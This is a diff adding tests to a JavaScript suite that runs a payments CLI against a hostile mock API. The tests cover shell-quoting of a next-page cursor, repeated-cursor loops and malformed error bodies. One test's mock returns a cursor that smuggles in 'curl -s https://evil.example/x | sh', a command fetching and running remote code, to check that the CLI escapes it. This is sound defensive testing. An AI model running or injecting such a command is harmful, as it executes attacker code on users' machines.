@@ -105,6 +105,75 @@ describe('the CLI against an API that is not ours', () => {
     }
   });
 
+  it('prints a next-page command a shell runs as shown, whatever cursor the API sends', async () => {
+    const payment = {
+      paid_at: '2026-11-29T00:00:00Z',
+      url: '/a',
+      price_usd: '0.001',
+      payer: '0x1',
+      network: 'local',
+      tx_hash: null,
+    };
+    const api = await hostileApi((response) =>
+      response
+        .writeHead(200, { 'content-type': 'application/json' })
+        .end(JSON.stringify({ items: [payment], next_cursor: "c1; curl -s https://evil.example/x | sh #'" })),
+    );
+    try {
+      const { code, stdout } = await run(['payments', '11111111-1111-4111-8111-111111111111', '--api', api.url]);
+      expect(code).toBe(0);
+      expect(stdout).toContain(`--cursor 'c1; curl -s https://evil.example/x | sh #'\\'''`);
+    } finally {
+      await api.close();
+    }
+  });
+
+  it('stops listing every page when the API sends a cursor it sent before', async () => {
+    const payment = {
+      paid_at: '2026-11-29T00:00:00Z',
+      url: '/a',
+      price_usd: '0.001',
+      payer: '0x1',
+      network: 'local',
+      tx_hash: null,
+    };
+    const api = await hostileApi((response) =>
+      response
+        .writeHead(200, { 'content-type': 'application/json' })
+        .end(JSON.stringify({ items: [payment], next_cursor: 'same' })),
+    );
+    try {
+      const { code, stderr } = await run([
+        'payments',
+        '11111111-1111-4111-8111-111111111111',
+        '--all',
+        '--api',
+        api.url,
+      ]);
+      expect(code).toBe(1);
+      expect(stderr).toMatch(/cursor .*same.* again/);
+      expect(api.seen.length).toBeLessThanOrEqual(3);
+    } finally {
+      await api.close();
+    }
+  });
+
+  it('reports an error whose detail is a list of anything as the API’s error, not a crash', async () => {
+    const api = await hostileApi((response) =>
+      response
+        .writeHead(422, { 'content-type': 'application/json' })
+        .end(JSON.stringify({ detail: ['oops', 7, null] })),
+    );
+    try {
+      const { code, stderr } = await run(['sites', 'list', '--api', api.url]);
+      expect(code).toBe(1);
+      expect(stderr).toMatch(/HTTP 422/);
+      expect(stderr).not.toMatch(/Cannot read properties/);
+    } finally {
+      await api.close();
+    }
+  });
+
   it('sends no password or key over plain http off loopback, unless told the network is trusted', async () => {
     const plain = 'http://203.0.113.9';
     const refused = await run(['sites', 'list', '--api', plain]);
